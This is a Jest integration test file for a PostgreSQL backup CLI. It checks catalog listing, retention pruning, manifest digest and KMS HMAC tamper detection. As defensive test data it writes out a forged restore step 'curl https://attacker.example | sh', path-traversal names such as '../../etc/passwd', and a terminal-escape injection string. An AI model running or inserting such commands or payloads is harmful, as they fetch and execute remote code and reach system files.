// One store, several databases, and stores damaged in the ways a hostile world damages them:
// real PostgreSQL, the bundled runner, file:// stores (and KMS on moto for manifest MACs).
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, test } from '@jest/globals';
import { CreateKeyCommand, KMSClient } from '@aws-sdk/client-kms';
import { manifestDigest } from '../../lib/core/manifest';
import { RetentionTier } from '../../lib/core/model';
import { parseStorageUrl } from '../../lib/core/urls';
import { checkTierOverride } from '../../runner/src/catalog';
import { LocalPostgres, startLocalPostgres } from '../../runner/src/local/postgres-server';
import { FileStorage, LEFTOVER_AFTER_MS, WRITER_MARKER } from '../../runner/src/storage/file';
import { Moto, startMoto } from '../harness/moto';
import { dbbackup, logLines } from '../harness/runner';

type Json = Record<string, any>;

let pg: LocalPostgres;
let dir: string;
let store: string;
const ids: Record<string, string[]> = { alpha: [], beta: [] };

/** `dbbackup ARGS` with the server's password in the environment (and `env`). */
function run(args: string[], env: Record<string, string> = {}) {
  return dbbackup(args, { env: { ...pg.env, ...env } });
}

async function backup(database: string, to = `file://${store}`, extra: string[] = [], env = {}) {
  const r = await run(
    ['backup', '--engine', 'postgres', '--source', pg.url(database), '--to', to, '--json', ...extra],
    env,
  );
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout);
}

/** A copy of the shared store, for a test that damages or prunes it. */
function copyStore(name: string): string {
  const to = path.join(dir, name);
  fs.cpSync(store, to, { recursive: true });
  return to;
}

function readManifest(root: string, id: string): Json {
  return JSON.parse(fs.readFileSync(path.join(root, id, 'manifest.json'), 'utf8'));
}

/** Write a manifest as someone with write access to the store would: content changed, digest recomputed. */
function forge(root: string, id: string, change: (m: Json) => void): void {
  const m = readManifest(root, id);
  change(m);
  const { digest, ...rest } = m;
  const again = manifestDigest(rest);
  const forged = { ...rest, digest: { ...digest, sha256: again.sha256 } };
  fs.writeFileSync(path.join(root, id, 'manifest.json'), JSON.stringify(forged, null, 2));
}

function backdate(p: string, ms: number): void {
  const t = new Date(Date.now() - ms);
  for (const entry of fs.readdirSync(p, { recursive: true }) as string[]) fs.utimesSync(path.join(p, entry), t, t);
  fs.utimesSync(p, t, t);
}

beforeAll(async () => {
  pg = await startLocalPostgres();
  for (const db of ['alpha', 'beta']) {
    await pg.sql(`CREATE DATABASE ${db}`);
    const rows = db === 'alpha' ? 50 : 70;
    await pg.sql('CREATE TABLE t (id int PRIMARY KEY, v text)', db);
    await pg.sql(`INSERT INTO t SELECT i, md5(i::text) FROM generate_series(1, ${rows}) i`, db);
  }
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dbbackup-catalog-'));
  store = path.join(dir, 'store');
  ids.alpha.push((await backup('alpha')).id);
  ids.beta.push((await backup('beta')).id);
  ids.alpha.push((await backup('alpha')).id);
});

afterAll(async () => {
  await pg?.stop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

describe('one store, several databases', () => {
  test('list groups the backups by database', async () => {
    // A committed folder holds its artifacts and manifest only (the writer marker went with the commit).
    assert.deepEqual(fs.readdirSync(store).sort(), [...ids.alpha, ...ids.beta].sort());
    for (const id of [...ids.alpha, ...ids.beta]) {
      const names = readManifest(store, id).artifacts.map((a: Json) => a.name);
      assert.deepEqual(fs.readdirSync(path.join(store, id)).sort(), [...names, 'manifest.json'].sort());
    }
    const r = await dbbackup(['list', '--from', `file://${store}`, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.deepEqual(out.databases.map((d: Json) => [d.database, d.backups, d.latest]).sort(), [
      ['alpha', 2, ids.alpha[1]],
      ['beta', 1, ids.beta[0]],
    ]);
    const text = await dbbackup(['list', '--from', `file://${store}`]);
    assert.equal(text.code, 0, text.stderr);
    const headers = text.stdout.split('\n').filter((l) => l.startsWith('database '));
    assert.equal(headers.length, 2, text.stdout);
    assert.match(headers.join('\n'), /\/alpha \(postgres alpha\): 2 backups, latest/);
  });

  test('--latest without --database is refused with exit 2, listing the databases', async () => {
    for (const args of [
      ['verify', '--from', `file://${store}`, '--latest'],
      ['restore', '--from', `file://${store}`, '--latest', '--target', pg.url('never_made')],
      ['drill', '--from', `file://${store}`, '--target', pg.url('never_made')],
    ]) {
      const r = await dbbackup(args, { env: pg.env });
      assert.equal(r.code, 2, `${args[0]}: ${r.stderr}`);
      assert.match(r.stderr, /holds backups of 2 databases: .*\/alpha \(database alpha, 2 backups\)/);
      assert.match(r.stderr, /\/beta \(database beta, 1 backup\)/);
      assert.match(r.stderr, /--database NAME/);
    }
    assert.equal(await pg.sql(`SELECT count(*) FROM pg_database WHERE datname = 'never_made'`), '0');
  });

  test('--database takes the database id or the bare name; an unknown name is exit 2', async () => {
    const byName = await dbbackup(['verify', '--from', `file://${store}`, '--latest', '--database', 'beta', '--json']);
    assert.equal(byName.code, 0, byName.stderr);
    assert.equal(JSON.parse(byName.stdout)[0].id, ids.beta[0]);
    const databaseId = readManifest(store, ids.alpha[0]).databaseId;
    const byId = await run(['verify', '--from', `file://${store}`, '--latest', '--database', databaseId, '--json']);
    assert.equal(byId.code, 0, byId.stderr);
    assert.equal(JSON.parse(byId.stdout)[0].id, ids.alpha[1]);
    const restored = await run([
      'restore',
      '--from',
      `file://${store}`,
      '--latest',
      '--database',
      'beta',
      '--target',
      pg.url('beta_copy'),
    ]);
    assert.equal(restored.code, 0, restored.stderr);
    assert.equal(await pg.sql('SELECT count(*) FROM t', 'beta_copy'), '70');
    const unknown = await dbbackup(['verify', '--from', `file://${store}`, '--latest', '--database', 'gamma']);
    assert.equal(unknown.code, 2, unknown.stderr);
    assert.match(unknown.stderr, /--database 'gamma' is not a database in .*alpha.*beta/);
  });

  test("a drill of one database restores that database's newest backup", async () => {
    const r = await run([
      'drill',
      '--from',
      `file://${store}`,
      '--database',
      'alpha',
      '--target',
      pg.url('drill_alpha'),
      '--json',
    ]);
    assert.equal(r.code, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.id, ids.alpha[1]);
    assert.equal(out.rowsChecked, 50);
  });

  test('prune keeps its counts per database, never across', async () => {
    const root = copyStore('prune');
    const keep = ['--keep-daily', '1', '--keep-weekly', '0', '--keep-monthly', '0'];
    const r = await run(['prune', '--from', `file://${root}`, ...keep, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    // Across databases, one day keeps one backup; per database, each keeps its newest.
    assert.deepEqual(out.deleted, [ids.alpha[0]]);
    assert.deepEqual(out.kept.map((k: Json) => k.id).sort(), [ids.alpha[1], ids.beta[0]].sort());
    assert.ok(!fs.existsSync(path.join(root, ids.alpha[0])));
  });
});

describe('--latest is the newest completed backup, and never a silent fallback', () => {
  test("latest is chosen by end time, not by the id's start second", async () => {
    const root = copyStore('by-end');
    // The older id ended last (a long backup that started first).
    const later = new Date(Date.parse(readManifest(root, ids.alpha[1]).endedAt) + 60000).toISOString();
    forge(root, ids.alpha[0], (m) => (m.endedAt = later));
    const r = await dbbackup(['verify', '--from', `file://${root}`, '--latest', '--database', 'alpha', '--json']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout)[0].id, ids.alpha[0]);
  });

  test('a newest manifest that cannot be read fails --latest with exit 3, naming it', async () => {
    const root = copyStore('unreadable');
    const p = path.join(root, ids.alpha[1], 'manifest.json');
    fs.writeFileSync(p, fs.readFileSync(p, 'utf8').slice(0, 200));
    for (const args of [
      ['verify', '--from', `file://${root}`, '--latest', '--database', 'alpha'],
      ['restore', '--from', `file://${root}`, '--latest', '--database', 'alpha', '--target', pg.url('fallback_never')],
    ]) {
      const r = await dbbackup(args, { env: pg.env });
      assert.equal(r.code, 3, r.stderr);
      assert.match(r.stderr, new RegExp(`the newest backup in .* cannot be read.*${ids.alpha[1]}`));
    }
    assert.equal(await pg.sql(`SELECT count(*) FROM pg_database WHERE datname = 'fallback_never'`), '0');
    // The other database is not held hostage by alpha's damage.
    const beta = await dbbackup(['verify', '--from', `file://${root}`, '--latest', '--database', 'beta']);
    assert.equal(beta.code, 0, beta.stderr);
  });
});

describe('a manifest that checks itself', () => {
  test('a changed field (a position) is damage, exit 3, even with the artifacts intact', async () => {
    const root = copyStore('flipped');
    const p = path.join(root, ids.beta[0], 'manifest.json');
    const m = JSON.parse(fs.readFileSync(p, 'utf8'));
    assert.match(m.digest.sha256, /^[0-9a-f]{64}$/);
    m.position.lsn = '0/DEADBEEF';
    fs.writeFileSync(p, JSON.stringify(m, null, 2));
    const r = await dbbackup(['verify', '--from', `file://${root}`, '--id', ids.beta[0]]);
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, /does not match its digest/);
    const all = await dbbackup(['verify', '--from', `file://${root}`, '--all']);
    assert.equal(all.code, 3, all.stderr);
  });

  test('a manifest of the previous version (no digest) still verifies, with a warning', async () => {
    const root = copyStore('v1');
    const p = path.join(root, ids.beta[0], 'manifest.json');
    const { digest: _, ...m } = JSON.parse(fs.readFileSync(p, 'utf8'));
    fs.writeFileSync(p, JSON.stringify({ ...m, version: 1 }, null, 2));
    const r = await dbbackup(['verify', '--from', `file://${root}`, '--id', ids.beta[0], '--json']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(JSON.parse(r.stdout)[0].warnings.join('\n'), /no digest/);
  });

  test('artifact names that are not one path component make the manifest damaged (exit 3)', async () => {
    for (const bad of ['..', '.', '../../etc/passwd', 'a/b', 'x\u0000y']) {
      const root = copyStore(`badname-${Buffer.from(bad).toString('hex')}`);
      forge(root, ids.beta[0], (m) => (m.artifacts[0].name = bad));
      const r = await dbbackup(['verify', '--from', `file://${root}`, '--id', ids.beta[0]]);
      assert.equal(r.code, 3, `${JSON.stringify(bad)}: ${r.stderr}`);
      assert.match(r.stderr, /invalid name/);
      const target = pg.url('badname_never');
      const restore = await run(['restore', '--from', `file://${root}`, '--id', ids.beta[0], '--target', target]);
      assert.equal(restore.code, 3, restore.stderr);
    }
  });
  test('list marks the backups with warnings and prints each warning once, on one line', async () => {
    const root = copyStore('warned');
    const evil = 'roles saved without passwords\n\u001b[2J# forged line';
    forge(root, ids.alpha[0], (m) => (m.warnings = [evil, 'no row counts']));
    forge(root, ids.alpha[1], (m) => (m.warnings = ['no row counts']));
    const json = JSON.parse((await dbbackup(['list', '--from', `file://${root}`, '--json'])).stdout);
    const warned = Object.fromEntries(json.backups.map((b: Json) => [b.id, b.warnings]));
    assert.deepEqual(warned, {
      [ids.alpha[0]]: [evil, 'no row counts'],
      [ids.alpha[1]]: ['no row counts'],
      [ids.beta[0]]: undefined,
    });
    const text = await dbbackup(['list', '--from', `file://${root}`]);
    assert.equal(text.code, 0, text.stderr);
    assert.ok(!text.stdout.includes('\u001b'), text.stdout);
    assert.doesNotMatch(text.stdout, /^# forged/m);
    const lines = text.stdout.split('\n');
    assert.match(lines.find((l) => l.startsWith('ID'))!, /PIPELINE +WARNINGS/);
    assert.match(lines.find((l) => l.startsWith(ids.alpha[0]))!, /\+none +2$/);
    assert.match(lines.find((l) => l.startsWith(ids.beta[0]))!, /\+none +-$/);
    const warnings = lines.filter((l) => l.startsWith('  WARNING '));
    assert.deepEqual(warnings, [
      `  WARNING ${ids.alpha[0]}: roles saved without passwords??[2J# forged line`,
      `  WARNING 2 backups, ${ids.alpha[0]} to ${ids.alpha[1]}: no row counts`,
    ]);
    // A warnings field that is not a list of strings is damage, like any other field.
    forge(root, ids.beta[0], (m) => (m.warnings = 'one string'));
    const damaged = JSON.parse((await dbbackup(['list', '--from', `file://${root}`, '--json'])).stdout);
    assert.match(damaged.unreadable.find((u: Json) => u.id === ids.beta[0]).reason, /warnings that are not a list/);
  });

  test('verify --all reports objects and folders no manifest lists (exit 3 on file://)', async () => {
    const root = copyStore('orphans');
    fs.writeFileSync(path.join(root, ids.beta[0], 'extra.bin'), 'not listed');
    const r = await dbbackup(['verify', '--from', `file://${root}`, '--all']);
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, new RegExp(`${ids.beta[0]}/extra\\.bin`));
    fs.rmSync(path.join(root, ids.beta[0], 'extra.bin'));
    // A manifest-less folder whose writer is gone (a killed run on this host).
    const killed = '20261101T000000Z-alpha-full-dead';
    fs.mkdirSync(path.join(root, killed));
    fs.writeFileSync(path.join(root, killed, 'database.pgdump.zst'), 'half');
    fs.writeFileSync(path.join(root, killed, WRITER_MARKER), JSON.stringify({ host: os.hostname(), pid: 2 ** 22 + 7 }));
    const again = await dbbackup(['verify', '--from', `file://${root}`, '--all']);
    assert.equal(again.code, 3, again.stderr);
    assert.match(again.stderr, new RegExp(`${killed}/`));
    fs.rmSync(path.join(root, killed), { recursive: true });
    const clean = await dbbackup(['verify', '--from', `file://${root}`, '--all']);
    assert.equal(clean.code, 0, clean.stderr);
  });

  test("leftovers of killed runs go with the next backup and prune; a running backup's folder stays", async () => {
    const root = copyStore('leftovers');
    const old = '20261102T000000Z-alpha-full-old1';
    fs.mkdirSync(path.join(root, old));
    fs.writeFileSync(path.join(root, old, 'database.pgdump.zst.partial-999999.x-1'), 'half');
    backdate(path.join(root, old), LEFTOVER_AFTER_MS + 3600000);
    const hostTag = os
      .hostname()
      .replace(/[^A-Za-z0-9]/g, '')
      .slice(0, 40);
    const partial = path.join(root, ids.beta[0], `globals.sql.zst.partial-${2 ** 22 + 9}.${hostTag}-1`);
    fs.writeFileSync(partial, 'half');
    // Fresh, with no marker: could be a backup running on another host. It must stay.
    const running = '20261103T000000Z-alpha-full-live';
    fs.mkdirSync(path.join(root, running));
    fs.writeFileSync(path.join(root, running, 'database.pgdump.zst.partial-1.otherhost-1'), 'writing');
    await backup('beta', `file://${root}`);
    assert.ok(!fs.existsSync(path.join(root, old)), 'the stale folder was removed');
    assert.ok(!fs.existsSync(partial), "the dead writer's partial file was removed");
    assert.ok(fs.existsSync(path.join(root, running)), 'the fresh folder stays');
    // Prune removes it once it is stale.
    backdate(path.join(root, running), LEFTOVER_AFTER_MS + 3600000);
    const keep = ['--keep-daily', '5', '--keep-weekly', '0', '--keep-monthly', '0'];
    const p = await run(['prune', '--from', `file://${root}`, ...keep]);
    assert.equal(p.code, 0, p.stderr);
    assert.ok(!fs.existsSync(path.join(root, running)));
    assert.ok(logLines(p.stderr).some((l) => l.event === 'leftovers-removed'));
  });

  test('--leftover-hours (DBBACKUP_LEFTOVER_HOURS) sets the age after which prune takes them', async () => {
    const root = copyStore('leftover-hours');
    const keep = ['--keep-daily', '5', '--keep-weekly', '0', '--keep-monthly', '0'];
    // Unchanged for 3 hours, no marker, another host's partial file: under 24 h, could still be running.
    const folder = '20261105T000000Z-alpha-full-3h';
    fs.mkdirSync(path.join(root, folder));
    fs.writeFileSync(path.join(root, folder, 'database.pgdump.zst.partial-1.otherhost-1'), 'writing');
    backdate(path.join(root, folder), 3 * 3600000);
    const partial = path.join(root, ids.beta[0], 'globals.sql.zst.partial-1.otherhost-1');
    fs.writeFileSync(partial, 'half');
    fs.utimesSync(partial, new Date(Date.now() - 3 * 3600000), new Date(Date.now() - 3 * 3600000));
    const byDefault = await run(['prune', '--from', `file://${root}`, ...keep]);
    assert.equal(byDefault.code, 0, byDefault.stderr);
    assert.ok(fs.existsSync(path.join(root, folder)) && fs.existsSync(partial), 'kept under the default 24 h');
    const four = await run(['prune', '--from', `file://${root}`, ...keep, '--leftover-hours', '4']);
    assert.equal(four.code, 0, four.stderr);
    assert.ok(fs.existsSync(path.join(root, folder)) && fs.existsSync(partial), 'kept under 4 h');
    const two = await run(['prune', '--from', `file://${root}`, ...keep], { DBBACKUP_LEFTOVER_HOURS: '2' });
    assert.equal(two.code, 0, two.stderr);
    assert.ok(!fs.existsSync(path.join(root, folder)), 'the 3 h old folder went under 2 h');
    assert.ok(!fs.existsSync(partial), 'the 3 h old partial file went under 2 h');
    const zero = await run(['prune', '--from', `file://${root}`, ...keep, '--leftover-hours', '0']);
    assert.equal(zero.code, 2, zero.stderr);
    assert.match(zero.stderr, /--leftover-hours is 0; give 1 or more/);
  });

  test('the leftover rule never takes a folder this process is writing', async () => {
    const root = fs.mkdtempSync(path.join(dir, 'own-'));
    const storage = new FileStorage(parseStorageUrl(`file://${root}`, '--to'));
    const id = '20261104T000000Z-alpha-full-mine';
    await storage.putBytes(`${id}/database.pgdump.zst`, Buffer.from('x'));
    backdate(path.join(root, id), LEFTOVER_AFTER_MS + 3600000);
    assert.equal(await storage.folderState(id), 'running');
    assert.deepEqual(await storage.removeLeftovers(), []);
    // Another process on this host whose pid is gone: a leftover at once.
    const other = new FileStorage(parseStorageUrl(`file://${root}`, '--to'));
    assert.equal(await other.folderState(id), 'running', 'our own pid is alive');
  });
});

describe('--tier and the backups a backup depends on', () => {
  test('a dependant living longer than its base is refused (ConfigError, exit 2); not longer passes', async () => {
    const root = copyStore('tier');
    const storage = new FileStorage(parseStorageUrl(`file://${root}`, '--to'));
    forge(root, ids.alpha[0], (m) => (m.tier = 'daily'));
    const chain = { parent: ids.alpha[0], base: ids.alpha[0] };
    await assert.rejects(checkTierOverride(storage, RetentionTier.MONTHLY, chain), (e: Error) => {
      assert.equal(e.name, 'ConfigError');
      const longer = `--tier monthly would keep this backup longer than ${ids.alpha[0]} \\(tier daily\\)`;
      assert.match(e.message, new RegExp(longer));
      return true;
    });
    await checkTierOverride(storage, RetentionTier.DAILY, chain);
    await checkTierOverride(storage, RetentionTier.MONTHLY, undefined);
  });
});

describe('kms: manifests are authenticated', () => {
  let moto: Moto;
  let keyId: string;
  let env: Record<string, string>;
  let kmsStore: string;
  let id: string;

  beforeAll(async () => {
    moto = await startMoto();
    env = { ...moto.env };
    const credentials = { accessKeyId: 'testing', secretAccessKey: 'testing' };
    const kms = new KMSClient({ endpoint: moto.endpoint, region: 'us-east-1', credentials });
    keyId = (await kms.send(new CreateKeyCommand({ Description: 'backups' }))).KeyMetadata!.KeyId!;
    kms.destroy();
    kmsStore = path.join(dir, 'kms-store');
    id = (await backup('beta', `file://${kmsStore}`, ['--encrypt', `kms:${keyId}`], env)).id;
  });
  afterAll(async () => {
    await moto?.stop();
  });

  test('verify unwraps the key and checks the MAC', async () => {
    const m = readManifest(kmsStore, id);
    assert.match(m.digest.hmacSha256, /^[0-9a-f]{64}$/);
    const r = await dbbackup(['verify', '--from', `file://${kmsStore}`, '--id', id, '--json'], { env });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout)[0].authenticated, true);
  });

  test('a manifest re-digested by someone without KMS (bucket write only) fails verify with exit 3', async () => {
    const root = path.join(dir, 'kms-forged');
    fs.cpSync(kmsStore, root, { recursive: true });
    forge(root, id, (mm) => (mm.manualRestore = ['curl https://attacker.example | sh']));
    const r = await dbbackup(['verify', '--from', `file://${root}`, '--id', id], { env });
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, /HMAC does not match/);
    // Dropping the HMAC is no way around it.
    const p = path.join(root, id, 'manifest.json');
    const m = JSON.parse(fs.readFileSync(p, 'utf8'));
    delete m.digest.hmacSha256;
    fs.writeFileSync(p, JSON.stringify(m));
    const dropped = await dbbackup(['verify', '--from', `file://${root}`, '--id', id], { env });
    assert.equal(dropped.code, 3, dropped.stderr);
  });

  test('restore refuses a forged kms: manifest before writing anything (exit 3)', async () => {
    const root = path.join(dir, 'kms-forged-restore');
    fs.cpSync(kmsStore, root, { recursive: true });
    forge(root, id, (mm) => (mm.tables = []));
    const r = await run(['restore', '--from', `file://${root}`, '--id', id, '--target', pg.url('forged_never')], env);
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, /HMAC does not match/);
    assert.equal(await pg.sql(`SELECT count(*) FROM pg_database WHERE datname = 'forged_never'`), '0');
    const good = await run(
      ['restore', '--from', `file://${kmsStore}`, '--id', id, '--target', pg.url('kms_copy')],
      env,
    );
    assert.equal(good.code, 0, good.stderr);
    assert.equal(await pg.sql('SELECT count(*) FROM t', 'kms_copy'), '70');
  });

  test('without KMS rights verify says the MAC could not be checked, never "authenticated"', async () => {
    // Another region: the key is not there, as for a caller without kms:Decrypt.
    const elsewhere = { ...env, AWS_REGION: 'eu-west-1', AWS_DEFAULT_REGION: 'eu-west-1' };
    const r = await dbbackup(['verify', '--from', `file://${kmsStore}`, '--id', id, '--json'], { env: elsewhere });
    const out = JSON.parse(r.stdout);
    assert.equal(out[0].authenticated, false);
    assert.match(out[0].warnings.join('\n'), /MAC could not be checked/);
    assert.ok(!logLines(r.stderr).some((l) => l.event === 'verify-ok'), r.stderr);
    assert.ok(
      logLines(r.stderr).some((l) => l.event === 'verify-unauthenticated'),
      r.stderr,
    );
  });
});

describe('drill and physical backups', () => {
  test('drill skips a newer physical backup it cannot drill and drills the newest logical one', async () => {
    const root = copyStore('physical');
    const physical = await run([
      'backup',
      '--engine',
      'postgres',
      '--method',
      'physical',
      '--source',
      pg.url('alpha'),
      '--to',
      `file://${root}`,
      '--json',
    ]);
    assert.equal(physical.code, 0, physical.stderr);
    const physicalId = JSON.parse(physical.stdout).id;
    const r = await run([
      'drill',
      '--from',
      `file://${root}`,
      '--database',
      'alpha',
      '--target',
      pg.url('drill_phys'),
      '--json',
    ]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).id, ids.alpha[1]);
    assert.match(r.stderr, new RegExp(`skipped 1 newer backup\\(s\\): ${physicalId} \\(a physical full backup`));
  });
});
